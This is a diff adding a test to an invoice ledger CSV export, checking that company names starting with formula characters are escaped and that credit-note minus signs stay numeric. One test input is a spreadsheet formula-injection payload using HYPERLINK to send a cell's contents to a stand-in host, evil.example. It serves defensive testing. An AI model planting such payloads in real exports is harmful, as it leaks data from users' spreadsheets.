@@ -64,6 +64,47 @@ describe("the accountant's ledger", () => {
     expect(csvAmount(5)).toBe('0,05');
   });
 
+  it.each([
+    [
+      '=HYPERLINK("http://evil.example/?d="&A1;"Facture")',
+      `"'=HYPERLINK(""http://evil.example/?d=""&A1;""Facture"")"`,
+    ],
+    ['+33 Martin', "'+33 Martin"],
+    ['-Martin', "'-Martin"],
+    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+    ['\tMartin', `"'\tMartin"`],
+    ['\rMartin', `"'\rMartin"`],
+  ])('neutralises a company name a spreadsheet would run as a formula: %j', (companyName, cell) => {
+    const typed = orderIn('ready_for_delivery', { billing: 'yearly', form: { companyName } }).state;
+    const document = invoiceDocumentFor({
+      order: typed,
+      payment: {
+        purpose: 'deposit',
+        provider: 'sandbox',
+        paymentId: 'cs_2',
+        amountWithVat: typed.price!.depositWithVat,
+        paidAt: '2026-03-01T10:00:00Z',
+      },
+      number: 'F-2026-000002',
+      issuedAt: '2026-03-01T10:00:01Z',
+      seller,
+    });
+    // The document trims the name; a tab or CR at its start is set on the document itself.
+    const [line] = ledgerCsvLines({ ...document, buyer: { ...document.buyer, name: companyName } });
+    expect(line).toContain(`;${cell};`);
+    // The amounts are ours: a credit note's minus sign stays a number.
+    expect(
+      ledgerCsvLines(
+        creditNoteFor(document, {
+          number: 'A-2026-000002',
+          issuedAt: '2026-03-05T10:00:00Z',
+          reason: 'x',
+          refundedAt: null,
+        }),
+      )[0],
+    ).toMatch(/;-\d+,\d{2};/);
+  });
+
   it('reads a period of days, the current month by default, either way round', () => {
     expect(ledgerPeriod(undefined, undefined, '2026-11-27')).toEqual({
       from: '2026-11-01',
